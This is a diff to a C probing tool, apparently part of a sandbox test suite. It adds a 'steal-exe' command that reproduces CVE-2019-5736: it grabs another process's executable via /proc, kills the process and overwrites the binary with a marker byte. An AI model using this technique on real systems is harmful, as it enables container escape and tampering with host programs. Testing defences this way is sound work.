@@ -1,8 +1,10 @@
 /* try: commands that try something forbidden, or likely so, and print the errno's name or 0. */
 #include "probe.h"
 
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -86,21 +88,52 @@ static int act_racer(int argc, char **argv)
 	return 0;
 }
 
-/* Tries to open FILE for writing N times and writes a byte whenever it can: prints how often. */
-static int act_overwrite(int argc, char **argv)
+/* The exe of a process that runs another program than we do; -1 when there is none. */
+static int open_other_exe(pid_t *ret_pid)
 {
-	long long won = 0;
+	struct stat own, other;
+	struct dirent *entry;
+	DIR *proc = opendir("/proc");
+	int fd = -1;
 
-	(void)argc;
-	for (long long n = parse_number(argv[2]); n > 0; n--) {
-		int fd = open(argv[1], O_WRONLY | O_CLOEXEC);
+	if (!proc || stat("/proc/self/exe", &own) < 0)
+		return -1;
+	while (fd < 0 && (entry = readdir(proc))) {
+		char path[300];
 
-		if (fd >= 0 && write(fd, "#", 1) == 1)
-			won++;
-		if (fd >= 0)
-			close(fd);
+		*ret_pid = atoi(entry->d_name);
+		snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+		fd = *ret_pid > 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
+		if (fd >= 0 && fstat(fd, &other) == 0 && other.st_ino == own.st_ino)
+			fd = (close(fd), -1);
 	}
-	printf("%lld\n", won);
+	closedir(proc);
+	return fd;
+}
+
+/*
+ * CVE-2019-5736: keeps the exe of the next process, ends that, then writes to the file; with FLAG no
+ * sooner than that file is there. Prints "won" or why not.
+ */
+static int act_steal(int argc, char **argv)
+{
+	char path[64];
+	int exe, fd = -1;
+	pid_t pid;
+
+	while ((exe = open_other_exe(&pid)) < 0)
+		usleep(1000);
+	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
+	kill(pid, SIGKILL);
+	while (argc > 1 && access(argv[1], F_OK) < 0)
+		usleep(1000);
+	for (int i = 0; i < 5000 && fd < 0; i++) {
+		fd = open(path, O_WRONLY | O_CLOEXEC);
+		if (fd < 0 && errno != ETXTBSY)
+			break;
+		usleep(1000);
+	}
+	puts(fd >= 0 && write(fd, "#", 1) == 1 ? "won" : errno_name(errno));
 	return 0;
 }
 
@@ -111,6 +144,6 @@ const struct probe_command probe_try[] = {
 	{ "try-mount", try_mount, 2, "TYPE TARGET" },
 	{ "try-chown", try_chown, 2, "PATH ID" },
 	{ "racer", act_racer, 2, "PATH PATH: swaps them for ever" },
-	{ "overwrite", act_overwrite, 2, "FILE N: prints how often it could" },
+	{ "steal-exe", act_steal, 0, "[FLAG]: overwrites the program of the next process" },
 	{ 0 },
 };
